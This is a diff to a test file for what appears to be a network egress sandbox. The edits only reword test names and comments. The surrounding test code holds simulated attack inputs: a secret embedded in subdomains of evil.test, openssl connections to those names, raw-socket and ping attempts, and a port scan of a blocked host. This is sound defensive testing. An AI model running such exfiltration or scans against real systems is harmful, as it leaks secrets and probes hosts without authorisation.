@@ -1,4 +1,4 @@
-/** A refused name stays on the machine: nobody is asked for it, and no packet of any kind leaves. */
+/** A refused name stays on the machine: no server is asked for it, and no packet of any kind leaves. */
 import { expect } from 'bun:test'
 import { runSteps } from './steps.ts'
 import { forEachKind } from './world.ts'
@@ -9,7 +9,7 @@ const hello = (name: string) =>
   `openssl s_client -connect ${name}:443 -servername ${name} </dev/null; openssl s_client -proxy 127.0.0.1:1023 -connect ${name}:443 </dev/null`
 
 forEachKind(
-  'P7 a refused name is in no query, however it is spoken of',
+  'P7 a refused name is in no query, in any spelling or protocol',
   async (world, project) => {
     const heard = world.listen()
     const name = (n: number) => `${SECRET}${n}.evil.test`
@@ -36,7 +36,7 @@ forEachKind(
     expect(steps.allowed.said).toBe(`hello from ${UP} 80\n`)
     expect(steps.dig.said).toContain(`${name(3)}. 60\tIN\tA\t198.18.`)
     expect(steps.digTypes.said).toBe('')
-    // The stub is told apart from the servers that were meant by this: it has an answer for every name.
+    // The stub differs from the real servers in this: it has an answer for every name.
     for (const step of ['dig', 'digOut', 'digStub'] as const) expect(steps[step].said).toContain('198.18.')
     for (const { ms } of Object.values(steps)) expect(ms).toBeLessThan(1000)
     expect(new Set(heard.names)).toEqual(new Set(['allowed.test']))
@@ -47,7 +47,7 @@ forEachKind(
 )
 
 forEachKind(
-  'P11 an allowed name that does not exist is told as such, and a refused one as refused',
+  'P11 an allowed name that does not exist is reported as such, and a refused one as refused',
   async (world, project) => {
     const heard = world.listen()
     const { err } = await project.run(
@@ -65,7 +65,7 @@ forEachKind(
 )
 
 forEachKind(
-  'P7 no datagram, ping or raw packet leaves, and the program hears so at once',
+  'P7 no datagram, ping or raw packet leaves, and the program gets an error at once',
   async (world, project) => {
     const heard = world.listen()
     project.write(
@@ -141,7 +141,7 @@ attempt('vsock', lambda: socket.socket(40, 1).connect((2, 22)))
         label,
         expect.stringMatching(/^E(PROTONOSUPPORT|PERM|AFNOSUPPORT)$/),
       ])
-    // hping, nft and nmap are not in the image of a container; what they would use is tried by the others.
+    // The image of a container has no hping, nft and nmap. The other programs try the same calls.
     const hostTools = !project.isContainer
     if (hostTools) expect(steps.hping.said.match(/Operation not permitted/g)?.length).toBe(3)
     expect(steps.ping.code).not.toBe(0)
@@ -153,7 +153,7 @@ attempt('vsock', lambda: socket.socket(40, 1).connect((2, 22)))
     expect(heard.left).toEqual([])
     expect(heard.names).toEqual([])
     const records = audit.map(({ kind, name, address, port }) => `${kind} ${name ?? address} ${port}`)
-    // A scan of ports is one record for each.
+    // A port scan makes one record for each port.
     expect(records.filter(line => line.startsWith('connection-denied')).sort()).toEqual(
       (hostTools ? [22, 443, 5432, 80, 8080] : []).map(port => `connection-denied ${EVIL} ${port}`),
     )
